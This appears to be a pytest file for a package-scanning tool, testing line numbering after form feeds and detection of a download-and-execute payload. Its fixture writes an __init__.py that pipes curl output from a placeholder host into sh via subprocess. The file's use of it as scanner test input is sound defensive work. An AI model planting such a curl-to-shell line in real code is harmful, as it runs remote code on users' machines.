"""Line numbers as Python and the content rules count them: a form feed (or another character
`str.splitlines()` breaks at) inside a line must not move what the evidence shows."""

from __future__ import annotations

from pathlib import Path

from package_analysis.analysis import engine, inputs
from package_analysis.analysis.model import PackageRef

PACKAGE = PackageRef("pypi", "demo-widget", "1.0.0", "pkg:pypi/demo-widget@1.0.0")


def test_lines_break_where_python_breaks_them() -> None:
    assert inputs.lines("a\x0cb\nc\x1cd\u2028e\r\nf\n") == ["a\x0cb", "c\x1cd\u2028e", "f"]
    assert inputs.lines("a\n\nb") == ["a", "", "b"]
    assert inputs.lines("") == []
    assert inputs.lines("a\rb\r\nc", universal=True) == ["a", "b", "c"]


def test_a_finding_shows_its_own_line_after_form_feeds(tmp_path: Path) -> None:
    """Two form feeds on the first line once numbered the comment two lines below as the
    payload's line: every snippet on the payload showed `# run the installer` instead."""
    code = (
        "import subprocess  # \x0c\x0c\n"
        "# run the installer\n"
        "x = 1\n"
        "subprocess.run('curl -s https://x.example.invalid/i.sh | sh', shell=True)\n"
    )
    pkg = tmp_path / "pkg"
    (pkg / "demo_widget").mkdir(parents=True)
    (pkg / "demo_widget" / "__init__.py").write_text(code)
    info = pkg / "demo_widget-1.0.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\n")
    (info / "WHEEL").write_text("Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    (info / "RECORD").write_text("")
    found = engine.scan_tree(pkg, ecosystem="pypi", package=PACKAGE, artifact_sha256="0" * 64)
    on_payload = [f for f in found if f.line == 4]
    assert {f.rule for f in on_payload} >= {"PY-DOWNLOAD-EXEC", "CNT-DOWNLOAD-EXEC"}, found
    for f in on_payload:
        assert f.snippet.startswith("subprocess.run('curl"), (f.rule, f.snippet)
